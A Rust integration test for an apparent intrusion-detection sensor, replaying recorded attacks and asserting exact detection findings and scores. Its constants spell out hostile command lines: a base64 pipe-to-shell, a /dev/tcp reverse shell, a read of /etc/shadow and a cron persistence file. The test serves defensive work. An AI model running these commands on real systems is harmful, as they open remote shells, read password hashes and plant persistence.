//! The recorded attacks that ship with the repository (`data/attacks.rec`), through the whole pipeline with the bundled rules: exactly
//! these findings, in this order, and the same bytes each time.

use sensor::{
    app::{
        Outlet,
        pipeline::{self, Stages, Time},
        stop::Stop,
    },
    cli::live::Engine,
    collect::{Collector, Losses as _, order, recording::Reader},
    enrich::{Enricher, table},
    sink::{Body, Item, Origin, json},
};
use sensor_common::{EventKind, stats::Reason};
use std::{path::Path, sync::Arc};

const PIPE: &str = "bash -c echo aWQK | base64 -d | sh";
const REVERSE: &str = "bash -c exec 3<>/dev/tcp/127.0.0.1/4444; sh <&3 >&3 2>&3";
const CRON: &str = r#"sh -c echo "* * * * * root true" > /etc/cron.d/try; rm /etc/cron.d/try"#;

/// Rule, command line, points of the process tree: alice's shell is one tree, root's cron job another. A medium finding gives 20 points, a
/// high one 50, and they fade with time.
const FINDINGS: &[(&str, &str, f64)] = &[
    ("Linux Base64 Encoded Pipe to Shell", PIPE, 20.0),
    ("Linux Shell Pipe to Shell", PIPE, 40.0),
    ("Decode Base64 Encoded Text", "base64 -d", 45.0),
    ("System Owner or User Discovery - Linux", "id", 50.0),
    ("Local System Accounts Discovery - Linux", "id", 55.0),
    ("Local System Accounts Discovery - Linux", "cat /etc/shadow", 59.9),
    ("Denied Read Of The Password Hash File", "cat /etc/shadow", 79.9),
    ("Shell Redirection To A Network Device", REVERSE, 129.8),
    ("Network Connection Made By A Shell", REVERSE, 179.8),
    ("System Owner or User Discovery - Linux", "id", 184.7),
    ("Local System Accounts Discovery - Linux", "id", 189.7),
    ("Cron Job Installed Outside The Package Manager", CRON, 20.0),
    ("New Cron File Created", CRON, 25.0),
    ("File Deletion", "rm /etc/cron.d/try", 26.0),
    ("Cron Job Removed Outside The Package Manager", "rm /etc/cron.d/try", 46.0),
];

/// Keeps everything.
#[derive(Default)]
struct Kept(Vec<Item>);

impl Outlet for Kept {
    fn publish(&mut self, item: Item) {
        self.0.push(item);
    }

    fn lost(&mut self) -> Vec<(EventKind, Reason, u64)> {
        Vec::new()
    }
}

/// What a replay gives, and the same as JSON lines.
fn replay() -> (Vec<Item>, Vec<u8>) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().expect("the workspace");
    let mut reader = Reader::open(&root.join("tests/replay/data/attacks.rec")).expect("the recording");
    let origin = Origin {
        boot_id: reader.host().boot_id.as_str().into(),
        host_name: reader.host().name.as_str().into(),
        sensor_version: Origin::here().sensor_version,
    };
    let mut enricher = Enricher::replay(table::Limits::default());
    for context in reader.context() {
        enricher.learn(context);
    }
    let mut stages = Stages {
        source: reader,
        collector: Collector::new(order::Options::default()),
        enricher,
        score: Engine(sensor::score::load(&[root.join("rules")]).engine),
        counters: Arc::default(),
    };
    let mut kept = Kept::default();
    let (_, end) = pipeline::run(&mut stages, &mut kept, Time::Records, None, &Stop::default());
    end.expect("a whole recording");
    let json = json::Writer::new(&origin);
    let mut lines = Vec::new();
    for item in &kept.0 {
        json.write(item, &mut lines);
    }
    (kept.0, lines)
}

#[test]
fn the_recorded_attacks_are_found() {
    let (items, _) = replay();
    let found: Vec<(String, String, f64)> = items
        .iter()
        .filter_map(|item| match &item.body {
            Body::Finding(f) => {
                let image = f.event.process.image.as_ref();
                let line = image.and_then(|i| i.command_line.as_ref()).map(ToString::to_string).unwrap_or_default();
                Some((f.rule.title.clone(), line, (f.score.total * 10.0).round() / 10.0))
            }
            _ => None,
        })
        .collect();
    let found: Vec<(&str, &str, f64)> = found.iter().map(|(title, line, score)| (title.as_str(), line.as_str(), *score)).collect();
    assert_eq!(found, FINDINGS);
}

#[test]
fn the_same_recording_gives_the_same_bytes() {
    let (items, first) = replay();
    assert!(items.len() > 100, "{}", items.len());
    assert!(first == replay().1);
}
